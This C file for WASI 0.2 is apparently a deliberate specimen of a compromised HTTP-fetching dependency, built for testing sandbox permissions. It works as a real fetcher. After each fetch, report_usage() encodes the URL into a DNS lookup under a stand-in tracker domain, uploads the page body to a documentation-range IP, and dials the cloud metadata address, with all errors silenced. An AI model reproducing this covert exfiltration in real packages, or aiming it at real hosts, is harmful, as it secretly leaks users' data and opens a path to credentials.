/*
 * httpget: another specimen of a compromised dependency. The fetching works; then it "measures usage": it tells a
 * tracker what was read, once by the name that it looks up and once over a connection, and goes for the metadata
 * service of a cloud, where machines find their credentials. It ignores every failure, as the real ones do, so that the
 * program around it notices nothing.
 *
 * It is harmless even where everything is granted: the tracker's name is under a reserved top-level domain and its
 * address in a range reserved for documentation, and the metadata service is asked nothing. Sockets are imported
 * straight from WASI 0.2 (httpget.wit has the types), since preview 1 has none to open.
 */

#define _GNU_SOURCE /* strcasestr */

#include "httpget.h"

#include <ctype.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define WASI(interface, function) __attribute__((import_module("wasi:" interface "@0.2.0"), import_name(function)))

typedef int32_t handle;

enum family { IPV4, IPV6 };
enum { ACCESS_DENIED = 1, WOULD_BLOCK = 8, CONNECTION_REFUSED = 14 }; /* of network's error-code */

/*
 * The canonical ABI: a result comes back in memory that the caller passes: a byte that says whether it failed, then,
 * aligned, the value or the error. A list in it was allocated by cabi_realloc. An address is passed as its case and
 * eleven words: port and four bytes, or port, flow-info, eight groups and scope-id.
 */
typedef struct {
  uint8_t family;
  union {
    uint8_t v4[4];
    uint16_t v6[8];
  };
} ip_address;

typedef struct {
  uint8_t failed;
  union {
    uint8_t error;
    handle value;
    struct {
      handle input, output;
    } streams;
  };
} network_result;

typedef struct {
  uint8_t failed;
  union {
    uint8_t error;
    struct {
      uint8_t some; /* 0: that was all */
      ip_address address;
    } next;
  };
} address_result;

/* stream-error: kind 0 comes with an error to drop, kind 1 is the end. */
typedef struct {
  uint8_t failed;
  union {
    struct {
      uint8_t *data;
      size_t length;
    } bytes;
    struct {
      uint8_t kind;
      handle error;
    };
  };
} stream_result;

#define WORDS int32_t, int32_t, int32_t, int32_t, int32_t, int32_t, int32_t, int32_t, int32_t, int32_t, int32_t, int32_t

WASI("io/error", "[resource-drop]error") void drop_error(handle);
WASI("io/poll", "[method]pollable.block") void block(handle);
WASI("io/poll", "[resource-drop]pollable") void drop_pollable(handle);
WASI("io/streams", "[method]input-stream.blocking-read") void blocking_read(handle, uint64_t length, stream_result *);
WASI("io/streams", "[resource-drop]input-stream") void drop_input(handle);
WASI("io/streams", "[method]output-stream.blocking-write-and-flush")
void blocking_write(handle, const void *data, size_t length, stream_result *);
WASI("io/streams", "[resource-drop]output-stream") void drop_output(handle);

WASI("sockets/instance-network", "instance-network") handle instance_network(void);
WASI("sockets/ip-name-lookup", "resolve-addresses")
void resolve_addresses(handle network, const char *name, size_t length, network_result *);
WASI("sockets/ip-name-lookup", "[method]resolve-address-stream.resolve-next-address")
void resolve_next_address(handle stream, address_result *);
WASI("sockets/ip-name-lookup", "[method]resolve-address-stream.subscribe") handle resolve_subscribe(handle stream);
WASI("sockets/ip-name-lookup", "[resource-drop]resolve-address-stream") void drop_resolve_address_stream(handle);
WASI("sockets/tcp-create-socket", "create-tcp-socket") void create_tcp_socket(int32_t family, network_result *);
WASI("sockets/tcp", "[method]tcp-socket.start-connect")
void start_connect(handle socket, handle network, WORDS, network_result *);
WASI("sockets/tcp", "[method]tcp-socket.finish-connect") void finish_connect(handle socket, network_result *);
WASI("sockets/tcp", "[method]tcp-socket.subscribe") handle tcp_subscribe(handle socket);
WASI("sockets/tcp", "[resource-drop]tcp-socket") void drop_tcp_socket(handle);

__attribute__((export_name("cabi_realloc"))) void *cabi_realloc(void *old, size_t old_size, size_t align, size_t size) {
  (void)old_size;
  void *bytes = size ? realloc(old, size) : (void *)align;
  if (!bytes) __builtin_trap();
  return bytes;
}

#define MAX_ADDRESSES 16
#define MAX_WRITE 4096 /* what one blocking write takes */

#define TRACKER_NAME "seen.tracker.example"
static const ip_address tracker = {.family = IPV4, .v4 = {203, 0, 113, 66}};
static const ip_address metadata = {.family = IPV4, .v4 = {169, 254, 169, 254}};

static const char *reason(uint8_t error) {
  if (error == ACCESS_DENIED) return "access denied";
  if (error == CONNECTION_REFUSED) return "connection refused";
  return "host not reachable";
}

static handle network(void) {
  static handle held = -1;
  if (held < 0) held = instance_network();
  return held;
}

/* Waits until something has happened to what `pollable` stands for. */
static void wait_for(handle pollable) {
  block(pollable);
  drop_pollable(pollable);
}

/* ---- names and connections ---- */

/* The addresses of `name`, at most MAX_ADDRESSES, or why there are none. */
static size_t look_up(const char *name, ip_address *found, const char **error) {
  network_result stream;
  resolve_addresses(network(), name, strlen(name), &stream);
  *error = stream.failed ? reason(stream.error) : NULL;
  size_t count = 0;
  while (!*error && count < MAX_ADDRESSES) {
    address_result next;
    resolve_next_address(stream.value, &next);
    if (!next.failed && !next.next.some) break;
    if (!next.failed) found[count++] = next.next.address;
    else if (next.error == WOULD_BLOCK) wait_for(resolve_subscribe(stream.value));
    else *error = reason(next.error);
  }
  if (!stream.failed) drop_resolve_address_stream(stream.value);
  if (!*error && !count) *error = "no such host";
  return count;
}

typedef struct {
  handle socket, input, output;
} connection;

static void start(handle socket, const ip_address *to, uint16_t port, network_result *started) {
  int32_t w[11] = {port};
  for (int i = 0; to->family == IPV4 && i < 4; i++) w[1 + i] = to->v4[i];
  for (int i = 0; to->family == IPV6 && i < 8; i++) w[2 + i] = to->v6[i];
  start_connect(socket, network(), to->family, w[0], w[1], w[2], w[3], w[4], w[5], w[6], w[7], w[8], w[9],
                w[10], started);
}

static bool dial(const ip_address *to, uint16_t port, connection *c, const char **error) {
  network_result socket, done;
  create_tcp_socket(to->family, &socket);
  *error = socket.failed ? reason(socket.error) : NULL;
  if (*error) return false;
  start(socket.value, to, port, &done);
  if (!done.failed) {
    do {
      wait_for(tcp_subscribe(socket.value));
      finish_connect(socket.value, &done);
    } while (done.failed && done.error == WOULD_BLOCK);
  }
  if (done.failed) {
    *error = reason(done.error);
    drop_tcp_socket(socket.value);
    return false;
  }
  *c = (connection){socket.value, done.streams.input, done.streams.output};
  return true;
}

static void hang_up(connection c) {
  drop_input(c.input);
  drop_output(c.output);
  drop_tcp_socket(c.socket);
}

static bool went_well(const stream_result *result) {
  if (result->failed && result->kind == 0) drop_error(result->error);
  return !result->failed;
}

static bool say(connection c, const char *text, size_t length) {
  stream_result written = {0};
  for (size_t at = 0; at < length && !written.failed; at += MAX_WRITE) {
    size_t rest = length - at;
    blocking_write(c.output, text + at, rest < MAX_WRITE ? rest : MAX_WRITE, &written);
  }
  return went_well(&written);
}

/* Whether an answer is all there, as its Content-Length says; without one it is when the peer closes. */
static bool is_whole(const char *text, size_t length) {
  static const char field[] = "\r\nContent-Length:";
  const char *body = strstr(text, "\r\n\r\n"), *found = strcasestr(text, field);
  if (!body || !found || found > body) return false;
  return length - (size_t)(body + 4 - text) >= strtoul(found + sizeof field - 1, NULL, 10);
}

/* An answer, or the first `room` bytes of it, and a NUL. */
static size_t hear(connection c, char *into, size_t room) {
  size_t length = 0;
  while (length < room && !is_whole(into, length)) {
    stream_result got;
    blocking_read(c.input, room - length, &got);
    if (!went_well(&got)) break;
    if (!got.bytes.length) continue;
    memcpy(into + length, got.bytes.data, got.bytes.length);
    length += got.bytes.length;
    into[length] = '\0';
    free(got.bytes.data);
  }
  return length;
}

/* ---- what nobody asked for ---- */

/* Appends `text` to a name, at most `most` characters of it; what belongs in no name becomes a hyphen. */
static char *append(char *at, const char *text, size_t most) {
  for (; *text && most--; text++) *at++ = isalnum((unsigned char)*text) || *text == '.' ? *text : '-';
  return at;
}

static void report_usage(const char *host, const char *path, const httpget_page *page) {
  ip_address ignored[MAX_ADDRESSES];
  const char *error;
  connection c;
  /* Who answers for a domain sees each name below it: news.xml.localhost.seen.tracker.example says what was read. */
  char name[256] = "index", *at = path[1] ? append(name, path + 1, 60) : name + strlen(name);
  *at++ = '.';
  at = append(at, host, 160);
  strcpy(at, "." TRACKER_NAME);
  look_up(name, ignored, &error);
  if (dial(&tracker, 443, &c, &error)) {
    say(c, page->body, page->length);
    hang_up(c);
  }
  if (dial(&metadata, 80, &c, &error)) hang_up(c);
}

/* ---- fetching ---- */

typedef struct {
  char host[200];
  uint16_t port;
  const char *path;
} target;

/* http://HOST[:PORT][/PATH]; an IPv6 address stands in brackets. */
static bool parse(const char *url, target *to) {
  if (strncmp(url, "http://", 7)) return false;
  url += 7;
  bool bracketed = *url == '[';
  const char *end = bracketed ? strchr(++url, ']') : url + strcspn(url, ":/");
  if (!end || end == url || (size_t)(end - url) >= sizeof to->host) return false;
  memcpy(to->host, url, (size_t)(end - url));
  to->host[end - url] = '\0';
  if (bracketed) end++;
  unsigned long port = 80;
  if (*end == ':') {
    char *rest;
    port = strtoul(end + 1, &rest, 10);
    if (!isdigit((unsigned char)end[1]) || port < 1 || port > 65535) return false;
    end = rest;
  }
  to->port = (uint16_t)port;
  to->path = *end ? end : "/";
  return *to->path == '/' && !to->path[strcspn(to->path, " \r\n")];
}

static char answer[HTTPGET_MAX + 1];

static bool ask(connection c, const target *to, httpget_page *page) {
  static char request[4096];
  /* 1.0, so that the page comes in one piece and the connection ends with it. */
  int length = snprintf(request, sizeof request, "GET %s HTTP/1.0\r\nHost: %s:%u\r\nConnection: close\r\n\r\n",
                        to->path, to->host, to->port);
  if (length >= (int)sizeof request || !say(c, request, (size_t)length)) return false;
  *answer = '\0';
  size_t heard = hear(c, answer, HTTPGET_MAX);
  char *body = strstr(answer, "\r\n\r\n");
  if (strncmp(answer, "HTTP/1.", 7) || heard < 12 || !body) return false;
  page->status = answer + 9;
  answer[strcspn(answer, "\r")] = '\0';
  page->body = body + 4;
  page->length = heard - (size_t)(page->body - answer);
  return true;
}

bool httpget(const char *url, httpget_page *page) {
  target to;
  ip_address found[MAX_ADDRESSES];
  connection c;
  *page = (httpget_page){0};
  if (!parse(url, &to)) {
    page->error = "not a URL that starts with http://";
    return false;
  }
  size_t count = look_up(to.host, found, &page->error);
  /* IPv4 first: a host that has both may serve by that alone. */
  bool connected = false;
  for (size_t i = 0; i < 2 * count && !connected; i++) {
    const ip_address *address = &found[i % count];
    connected = address->family == (i < count ? IPV4 : IPV6) && dial(address, to.port, &c, &page->error);
  }
  if (connected) {
    page->error = ask(c, &to, page) ? NULL : "no answer of HTTP";
    hang_up(c);
  }
  if (!page->error) report_usage(to.host, to.path, page);
  return !page->error;
}
